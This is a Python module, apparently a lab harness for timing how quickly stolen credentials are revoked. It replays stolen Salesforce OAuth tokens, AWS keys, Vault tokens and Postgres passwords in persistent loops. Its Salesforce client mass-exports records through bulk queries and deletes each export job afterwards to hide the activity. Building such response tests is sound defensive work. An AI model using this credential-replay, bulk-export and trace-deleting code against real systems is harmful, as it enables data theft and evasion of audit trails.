"""What every scripted attacker does: try a stolen credential, log the attempt, and never stop trying.

An attack runs as a process of its own, so that it shares no interpreter with the response it races. It logs
one JSON line per attempt: `{"at", "credential", "what", "ok"}`. No secret is written to the log.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TextIO

import boto3
import botocore.config
import botocore.exceptions
import hvac
import psycopg
import requests
from hvac.exceptions import VaultError

TIMEOUT_S = 20
ROUND_TRIP_S = 0.01  # loopback has no distance; an attacker has at least this much


@dataclass(frozen=True, slots=True)
class Credential:
    """A stolen way in: its name for the log, and one use of it that says whether it still works."""

    name: str
    what: str
    try_it: Callable[[], bool]


class AttackLog:
    """Attempts as JSON Lines, flushed at once: the scorecard counts them."""

    def __init__(self, path: Path) -> None:
        self._out: TextIO = path.open("w", encoding="utf-8", buffering=1)
        self._lock = threading.Lock()

    def add(self, credential: str, what: str, ok: bool, started: datetime | None = None) -> None:
        at = started or datetime.now(UTC)
        line = {"at": at.isoformat(), "credential": credential, "what": what, "ok": ok}
        with self._lock:
            self._out.write(json.dumps(line) + "\n")

    def close(self) -> None:
        self._out.close()


def attempt(log: AttackLog, credential: Credential) -> bool:
    """Use the credential once; a refusal and a dead server both count as not getting in.

    Logged with the instant at which it began: an answer under way while the door shuts is no later success.
    """
    started = datetime.now(UTC)
    try:
        ok = credential.try_it()
    except (
        requests.RequestException,
        botocore.exceptions.BotoCoreError,
        botocore.exceptions.ClientError,
        VaultError,
        psycopg.Error,
    ):
        ok = False
    log.add(credential.name, credential.what, ok, started)
    return ok


class Persistence:
    """Tries every credential again and again, one after the other in each group, until told to stop."""

    def __init__(self, log: AttackLog, groups: Sequence[Sequence[Credential]]) -> None:
        self._log = log
        self._groups = [list(group) for group in groups if group]
        self._stop = threading.Event()
        self._threads = [
            threading.Thread(target=self._loop, args=(group,), daemon=True) for group in self._groups
        ]

    def start(self) -> None:
        for thread in self._threads:
            thread.start()

    def _loop(self, group: list[Credential]) -> None:
        while not self._stop.is_set():
            for credential in group:
                attempt(self._log, credential)
                if self._stop.is_set():
                    return
                time.sleep(ROUND_TRIP_S)

    def stop_and_sweep(self, everything: Sequence[Credential]) -> int:
        """Stop the loops, then try all that was ever stolen once more; returns how many still worked."""
        self._stop.set()
        for thread in self._threads:
            thread.join(TIMEOUT_S)
        with ThreadPoolExecutor(8) as pool:
            return sum(pool.map(lambda credential: attempt(self._log, credential), everything))


class SalesforceThief:
    """A bare Salesforce client with stolen OAuth tokens: no library of the product in it."""

    def __init__(self, lab: Mapping[str, Any], user_agent: str) -> None:
        self.url = lab["salesforce"]["url"]
        self.api = f"{self.url}/services/data/v{lab['salesforce']['api_version']}"
        self.app = {
            "client_id": lab["stolen"]["consumer_key"],
            "client_secret": lab["stolen"]["consumer_secret"],
        }
        self._ca = lab["salesforce"]["ca"]
        self._agent = user_agent
        self._local = threading.local()

    @property
    def http(self) -> requests.Session:
        session: requests.Session | None = getattr(self._local, "session", None)
        if session is None:
            session = self._local.session = requests.Session()
            session.trust_env = False
            session.verify = self._ca
            session.headers["User-Agent"] = self._agent
        return session

    def refresh(self, refresh_token: str) -> str | None:
        """An access token minted from a stolen refresh token, or None when the org refuses."""
        form = {"grant_type": "refresh_token", "refresh_token": refresh_token, **self.app}
        reply = self.http.post(f"{self.url}/services/oauth2/token", data=form, timeout=TIMEOUT_S)
        return str(reply.json()["access_token"]) if reply.status_code == 200 else None

    def call(self, method: str, path: str, access_token: str, **kwargs: Any) -> requests.Response:
        headers = {"Authorization": f"Bearer {access_token}", **kwargs.pop("headers", {})}
        return self.http.request(method, self.api + path, headers=headers, timeout=TIMEOUT_S, **kwargs)

    def query(self, soql: str, access_token: str) -> requests.Response:
        return self.call("GET", "/query", access_token, params={"q": soql})

    def bulk_export(self, soql: str, access_token: str) -> list[str]:
        """All result pages of a Bulk 2.0 query as CSV text; the job is deleted at once, as UNC6395 did."""
        job = self.call(
            "POST", "/jobs/query", access_token, json={"operation": "query", "query": soql}
        ).json()
        path = f"/jobs/query/{job['id']}"
        while (state := self.call("GET", path, access_token).json()["state"]) != "JobComplete":
            if state in ("Failed", "Aborted"):
                return []
            time.sleep(0.05)
        pages: list[str] = []
        locator: str | None = None
        while locator != "null":
            params: dict[str, str] = {"locator": locator} if locator else {}
            reply = self.call("GET", f"{path}/results", access_token, params=params)
            reply.raise_for_status()
            reply.encoding = "utf-8"
            pages.append(reply.text)
            locator = reply.headers.get("Sforce-Locator", "null")
        self.call("DELETE", path, access_token)
        return pages


def aws_client(lab: Mapping[str, Any], service: str, key_id: str, secret: str) -> Any:
    return boto3.client(
        service,
        endpoint_url=lab["aws"]["endpoint"],
        region_name=lab["aws"]["region"],
        aws_access_key_id=key_id,
        aws_secret_access_key=secret,
        config=botocore.config.Config(
            connect_timeout=TIMEOUT_S,
            read_timeout=TIMEOUT_S,
            retries={"max_attempts": 0},
            s3={"addressing_style": "path"},
        ),
    )


def vault_client(lab: Mapping[str, Any], token: str) -> hvac.Client:
    session = requests.Session()
    session.trust_env = False
    return hvac.Client(url=lab["vault"]["addr"], token=token, timeout=TIMEOUT_S, session=session)


def postgres_login(lab: Mapping[str, Any], username: str, password: str) -> bool:
    where = lab["postgres"]
    with psycopg.connect(
        host=where["host"],
        port=where["port"],
        dbname=where["dbname"],
        user=username,
        password=password,
        connect_timeout=TIMEOUT_S,
    ) as connection:
        return connection.execute("SELECT 1").fetchone() == (1,)
